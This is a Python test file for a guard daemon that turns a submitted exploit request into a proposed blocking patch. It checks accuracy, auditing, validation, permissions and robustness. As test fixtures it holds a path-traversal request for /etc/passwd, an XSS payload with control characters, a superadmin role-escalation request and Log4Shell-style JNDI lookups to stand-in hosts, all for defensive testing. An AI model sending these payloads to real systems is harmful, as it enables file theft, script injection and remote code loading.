# SPDX-License-Identifier: Apache-2.0
"""Patches for exploits, proposed by guardd: measured, explained, changing nothing, by whom may operate, and the same as `guard patch from`
makes of it, with and without a server."""

import json
import os
import pathlib
import subprocess
import sys

import pytest

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
from talking import Api, curl, wait_for  # noqa: E402
from test_guardd import BIN, guard, guardd  # noqa: E402, F401

PATH = "/services/shop/proposals"
EXPLOIT = "GET /files?name=..%2f..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\n\r\n"
BENIGN = ["/files?name=report.pdf", "/files?name=notes.txt", "/products/7"]
HOSTILE = "<img src=x onerror=alert(1)>\u202e\x1b[31m"


@pytest.fixture
def api(guardd):
    guard(guardd.state, "mode", "alert", "--service", "shop", "--force")
    api = Api(guardd.state).ready()
    wait_for(lambda: curl(guardd.state, "/services/shop").status == 200, "the service")
    return api


def raw(targets):
    return "".join(f"GET {target} HTTP/1.1\r\nHost: shop.example\r\n\r\n" for target in targets)


def audit(guardd, action):
    file = guardd.state / "audit.jsonl"
    return [line for line in map(json.loads, file.read_text().splitlines()) if line["action"] == action] if file.exists() else []


def run(*arguments, status=0, env=None):
    done = subprocess.run([BIN / "guard", "patch", *map(str, arguments)], capture_output=True, text=True, timeout=120, check=False,
                          env={**os.environ, **(env or {})})
    assert done.returncode == status, (arguments, done.returncode, done.stdout[-2000:], done.stderr[-2000:])
    return done


def test_a_proposal_says_how_often_it_is_right_and_changes_nothing(guardd, api):
    before = (guardd.state / "guardians" / "shop.yaml").read_bytes()
    made = api.put(PATH, {"exploit": EXPLOIT, "benign": raw(BENIGN), "id": "T-1", "title": "Traversal", "reason": "seen in the wild"},
                   "X-Guard-By: anna", method="POST")
    assert (made["narrowness"], made["id"], made["enforceable"], made["whole"]) == ("syntax", "T-1", True, True)
    assert made["exploit"]["hits"] == made["exploit"]["of"] == 1 and made["rewritten"]["hits"] == made["rewritten"]["of"] > 2
    assert (made["benign"]["hits"], made["benign"]["of"]) == (0, 3) and made["benign"]["high"] > 0.5
    assert made["reach"] is None  # nothing is learned yet
    assert [request["step"] for request in made["requests"]] == ["kept"]
    assert any(part["kept"] and part["text"].startswith("query name: reads like") for part in made["requests"][0]["parts"]), made["requests"]
    assert "mode: shadow" in made["document"] and 'author: "anna"' in made["document"]
    assert (guardd.state / "guardians" / "shop.yaml").read_bytes() == before
    assert [(line["by"], line["service"], line["after"], line["reason"]) for line in audit(guardd, "patch propose")] == [
        ("anna", "shop", f"from an exploit of {len(EXPLOIT)} bytes", "seen in the wild")]
    # What was proposed can be added as it is.
    answer = api.ask("POST", "/services/shop/patches", made["document"].encode(), type="application/yaml")
    assert answer.status == 200 and answer.json()["after"] == "T-1 shadow"


def test_what_stops_benign_requests_only_alerts(guardd, api):
    exploit = "POST /admin/users HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nrole=superadmin"
    made = api.put(PATH, {"exploit": exploit, "benign": exploit}, method="POST")
    assert made["benign"]["hits"] == 1 and made["enforceable"] is False and "action: alert" in made["document"]
    assert any(line.startswith("NOT ENFORCEABLE") for line in made["lines"])


def test_what_is_no_exploit_is_named_with_its_place(guardd, api):
    for body, field, says in [
        ({"exploit": "good day"}, "exploit", "exploit"),
        ({"exploit": "id: x\nhttp:\n  - method: [GET\n"}, "exploit", "exploit:"),
        ({"exploit": EXPLOIT, "benign": "good day"}, "exploit", "benign"),
        ({"exploit": EXPLOIT, "id": "a b"}, "exploit", "id"),
        ({"exploit": EXPLOIT, "format": "pcap"}, "format", "nuclei"),
        ({"exploit": ""}, "exploit", "bytes"),
        ({}, "exploit", "needed"),
        ({"exploit": EXPLOIT, "command": "x"}, "command", "command"),
    ]:
        answer = api.ask("POST", PATH, body)
        problem = answer.json()
        assert answer.status == 422 and problem.get("field") == field and says in problem["detail"], (body, answer.status, problem)
    assert api.ask("POST", PATH, b"x", type="text/plain").status == 415
    # Answered before it is sent.
    assert api.ask("POST", PATH, {"exploit": "x" * 300_000}, headers=["Expect: 100-continue"]).status == 413
    assert api.ask("POST", PATH, {"exploit": "x" * 210_000}).status == 422
    assert api.ask("POST", "/services/none/proposals", {"exploit": EXPLOIT}).status == 404


def test_what_strangers_wrote_is_told_clean(guardd, api):
    exploit = f"GET /a?q={HOSTILE.encode().decode('latin-1')} HTTP/1.1\r\nHost: x\r\nX-Y: {HOSTILE.encode().decode('latin-1')}\r\n\r\n"
    made = api.put(PATH, {"exploit": exploit}, method="POST")
    told = json.dumps([made["lines"], made["requests"]], ensure_ascii=False)
    assert "onerror" in told and not any(mark in told for mark in "\u202e\x1b\x9b"), told


def test_viewers_may_not_and_others_services_are_not_there(guardd, api):
    for role, options, status in (("viewer", [], 403), ("operator", [], 200), ("operator", ["--service", "other"], 404)):
        name = f"{role}-{len(options)}"
        token = guard(guardd.state, "token", "add", name, "--role", role, *options).strip()
        answer = api.ask("POST", PATH, {"exploit": EXPLOIT}, headers=[f"Authorization: Bearer {token}"])
        assert answer.status == status, (role, answer.status, answer.body)


def test_the_command_says_the_same_of_a_server(guardd, api, tmp_path):
    file = tmp_path / "exploit"
    file.write_text(EXPLOIT, newline="")
    server = ["--server", f"unix:{guardd.state}/api.sock", "--service", "shop"]
    there = run("from", file, "--id", "T-2", "--author", "anna", *server).stdout
    here = run("from", file, "--id", "T-2", "--author", "anna").stdout
    assert there == here and "# narrowness: syntax" in there
    added = run("from", file, "--id", "T-2", "--add", *server).stdout
    assert "shop: none -> T-2 shadow" in added
    assert [patch["id"] for patch in api.get("/services/shop/patches")["patches"]] == ["T-2"]
    assert len(audit(guardd, "patch propose")) == 2
    nothing = tmp_path / "nothing"
    nothing.write_text("GET / HTTP/1.1\r\nHost: x\r\n\r\n", newline="")
    there = run("from", nothing, *server, status=1)
    here = run("from", nothing, status=1)
    assert (there.stdout, there.stderr) == (here.stdout, here.stderr) and "no patch" in there.stderr
    nothing.write_text("good day")
    assert "exploit:" in run("from", nothing, *server, status=1).stderr


def test_guardd_answers_others_meanwhile_and_survives_a_child_that_is_killed(guardd, api):
    """The child is stopped as soon as it is there, which stands for one that takes long."""
    heavy = raw([f"/s{i % 60}/x?" + "&".join(f"p{k}=${{jndi:ldap://e{i}.example/a}}" for k in range(5)) for i in range(400)])
    held = []

    def ask():
        return subprocess.Popen(["curl", "-sS", "--max-time", "60", "--unix-socket", "api.sock", "--json", json.dumps({"exploit": heavy[:190_000]}),
                                 "http://guardd/api/v1" + PATH], cwd=guardd.state, stdout=subprocess.PIPE, text=True)

    def children():
        return (pathlib.Path("/proc") / str(guardd.process.pid) / "task" / str(guardd.process.pid) / "children").read_text().split()

    def catch():
        for child in map(int, children()):
            if child not in held:
                try:
                    os.kill(child, 19)
                    state = pathlib.Path(f"/proc/{child}/stat").read_text().rpartition(")")[2].split()[0]
                except (ProcessLookupError, FileNotFoundError):
                    continue
                if state != "Z":
                    held.append(child)
                    return True
        return False

    first = ask()
    if not catch_until(catch, first):
        pytest.skip("the child was done before it could be held")
    assert curl(guardd.state, "/health/live").status == 200
    assert api.put(PATH, {"exploit": EXPLOIT}, method="POST")["narrowness"] == "syntax"
    os.kill(held[0], 9)
    answer = json.loads(first.communicate(timeout=60)[0])
    assert answer["status"] == 422 and answer["type"].endswith("too-costly"), answer
    assert api.put(PATH, {"exploit": EXPLOIT}, method="POST")["narrowness"] == "syntax"


def catch_until(catch, process):
    while process.poll() is None:
        if catch():
            return True
    return False
